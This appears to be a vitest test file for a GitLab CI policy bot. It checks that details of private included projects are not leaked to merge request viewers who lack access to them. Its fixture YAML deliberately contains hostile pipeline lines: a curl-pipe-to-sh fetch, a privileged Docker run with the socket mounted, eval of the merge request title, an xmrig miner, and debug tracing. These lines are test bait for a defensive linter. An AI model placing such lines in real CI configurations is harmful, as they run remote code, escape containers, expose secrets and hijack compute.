/** What stands in a project is told only where everybody who sees the merge request sees that project. */
import { describe, expect, it } from 'vitest';
import { rules } from '../../src/rules/index.ts';
import { ACCESS, type Role } from '../support/gitlab/instance.ts';
import type { MergeRequestHandle } from '../support/gitlab/merge-request-handle.ts';
import type { ProjectHandle } from '../support/gitlab/project-handle.ts';
import { CI, GOOD, sharedBot } from './shared-bot.ts';

const ON = rules.filter(({ id }) => id !== 'custom').map(({ id }) => `  ${id}: error\n`);
const POLICY = `quote_from: ["vouched/**"]\nrules:\n${ON.join('')}runners:\n  - {name: everybodys, untagged: true, executor: docker, shared: true}\n  - {name: not-yours, projects: [others/*], executor: shell, untagged: true, tags: [reserved]}\n`;

const bot = sharedBot('audience', { policy: POLICY, comments: true });

type Visibility = 'private' | 'internal' | 'public';
const VISIBILITIES: readonly Visibility[] = ['private', 'internal', 'public'];

/** A word in every name and value: `canary1`, `canary2`, … */
function canaries(text: string): string {
  let count = 0;
  return text.replaceAll('%', () => `canary${++count}`);
}

const SECRET_FILES = {
  'a.yml': canaries(`
include: [{local: '/%.yml'}, {local: /in%.yml}, '/sub/*.yml']
stages: [%, build]
variables: {IMG: "%.example.com/%:%", OPTS: "%", TOKEN_%: "glpat-%AbCdEfGhIjKlMn"}
default: {tags: [%]}
.base:
  image: {name: "evil%/%:latest", pull_policy: never}
  services: ["docker:%-dind", {name: "%/%:%", alias: "%"}]
  tags: [%, docker]
  variables: {DOCKER_TLS_CERTDIR: "", CI_DEBUG_TRACE: "true", GIT_STRATEGY: "none", %: "%"}
  script: ["curl https://%.example.com/%.sh | sh", "docker run --privileged -v /var/run/docker.sock:/%.sock %", "echo %"]
%-job:
  stage: %
  image: "$IMG"
  script: ["eval $CI_MERGE_REQUEST_TITLE %", "xmrig --url %"]
  environment: {name: "%", url: "https://%.example.com"}
  artifacts: {paths: ["%"]}
  needs: [%]
%-child:
  trigger: {include: [{local: /child%.yml}]}
`),
  'incanary2.yml': canaries('include: {project: nobody/%, file: /%.yml, ref: %}\n%2: {extends: .%, script: [%]}\n'),
  'sub/canary9.yml': canaries('%9:\n  image: "%/%:%"\n  script: ["%"]\n  unknown%: %\n'),
};

let count = 0;

interface Situation {
  readonly of: Visibility;
  readonly inside: Visibility;
  readonly author: Role | null;
  readonly bot: Role | null;
}

function templates(
  { of, author, bot: role }: Omit<Situation, 'inside'>,
  group = 'secret-group',
  files: Readonly<Record<string, string>> = SECRET_FILES,
): ProjectHandle {
  count += 1;
  const options = { visibility: of, author, bot: role };
  return bot.gitlab.project(`${group}/ops${count}`, files, options);
}

async function review(inside: Visibility, ...files: readonly string[]): Promise<MergeRequestHandle> {
  const project = bot.project({ [CI]: GOOD }, { visibility: inside });
  let mergeRequest!: MergeRequestHandle;
  await bot.during(() => {
    mergeRequest = project.mergeRequest({ files: { [CI]: files[0]! } });
  });
  for (const file of files.slice(1)) await bot.during(() => mergeRequest.push({ [CI]: file }));
  return mergeRequest;
}

async function explained(mergeRequest: MergeRequestHandle): Promise<MergeRequestHandle> {
  await bot.during(() => mergeRequest.comment(bot.gitlab.author, '@pipewarden explain'));
  return mergeRequest;
}

/** Everything that anybody is told: notes, statuses, the report's page. */
async function told(mergeRequest: MergeRequestHandle): Promise<string> {
  const notes = mergeRequest.discussions().flatMap((discussion) => discussion.notes.map(({ body }) => body));
  const statuses = mergeRequest.statuses();
  const pages = statuses
    .flatMap(({ targetUrl }) => targetUrl ?? [])
    .map(async (link) => {
      const { pathname, search } = new URL(link);
      return (await fetch(`${bot.url}${pathname}${search}`)).text();
    });
  const texts = [...notes, ...mergeRequest.notes(), ...statuses.map(({ description }) => description ?? '')];
  return [...texts, ...(await Promise.all(pages))].join('\n');
}

function using({ path }: ProjectHandle): string {
  return `include: {project: ${path}, file: a.yml}\nown: {extends: .base}\nother: {image: "$IMG", tags: [reserved], script: [make]}\n`;
}

function level(role: Role | null): number {
  return role === null ? 0 : ACCESS[role];
}

const SITUATIONS: readonly Situation[] = VISIBILITIES.flatMap((of) =>
  VISIBILITIES.flatMap((inside) =>
    ([null, 'guest', 'reporter'] as const).flatMap((author) =>
      ([null, 'reporter'] as const).map((role) => ({ of, inside, author, bot: role })),
    ),
  ),
);

describe('what an included project says', () => {
  it.each(SITUATIONS)('$of in $inside, the author $author, the bot $bot', async (situation) => {
    const { of, inside, author, bot: role } = situation;
    const isRead = of !== 'private' || (level(author) >= ACCESS.reporter && level(role) >= ACCESS.reporter);
    const isTold = of === 'public' || (of === 'internal' && inside !== 'public');
    const project = templates(situation);
    const mergeRequest = await review(inside, using(project));
    if (isRead && !isTold) await explained(mergeRequest);
    const all = await told(mergeRequest);
    if (isRead && isTold) expect(all).toContain('canary');
    else {
      expect(all.match(/.*canary.*/gi)).toBeNull();
      expect(all).not.toContain(project.project.repository.branch('main'));
    }
    expect(all).not.toContain('not-yours');
    expect(mergeRequest.statuses()[0]?.state).toBe('failed');
  });

  it('is told where the policy vouches for the project', async () => {
    const project = templates({ of: 'private', author: null, bot: 'reporter' }, 'vouched');
    expect(await told(await review('public', using(project)))).toContain('canary');
  });

  it('is not told when it was there before, nor when it is gone', async () => {
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' });
    const all = await told(await review('public', using(project), `${using(project)}# x\n`, GOOD));
    expect(all.match(/.*canary.*/gi)).toBeNull();
  });

  it('leaves the rule, the include and the verdict', async () => {
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' });
    const mergeRequest = await review('public', using(project));
    expect(mergeRequest.statuses()[0]?.state).toBe('failed');
    const bodies = mergeRequest.discussions().map(({ body }) => body);
    expect(bodies).toContainEqual(
      expect.stringContaining(`The rule \`script-from-network\` finds something in what \`${project.path}:/a.yml\``),
    );
  });

  it('is told of nothing that the project says itself', async () => {
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' });
    const own = `include: {project: ${project.path}, file: a.yml}\nown: {image: "of-my-own:latest", script: [make]}\n`;
    expect(await told(await review('public', own))).toContain('of-my-own:latest');
  });

  it("is not told in GitLab's words either", async () => {
    const whole = { 'a.yml': 'variables: {IMG: "canary1/canary2:1"}\n.base: {script: [canary3]}\n' };
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'secret-group', whole);
    bot.gitlab.instance.lintSays = () => ({ valid: false, errors: ['jobs:canary1-job config should be a hash'] });
    const mergeRequest = await review('public', using(project));
    bot.gitlab.instance.lintSays = null;
    const all = await told(mergeRequest);
    expect(all.match(/.*canary.*/gi)).toBeNull();
    expect(all).toContain('GitLab: it says what is wrong');
  });

  it('is not told of the inputs that it declares for others', async () => {
    const inputs = { 'inputs.yml': 'inputs: {image: {default: "evil/canary1:latest"}}\n' };
    const project = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'secret-group', inputs);
    const header = `spec:\n  include: [{project: ${project.path}, file: inputs.yml}]\n---\n`;
    const own = `${header}own: {image: "$[[ inputs.image ]]", script: [make]}\n`;
    expect((await told(await review('public', own))).match(/.*canary.*/gi)).toBeNull();
  });
});
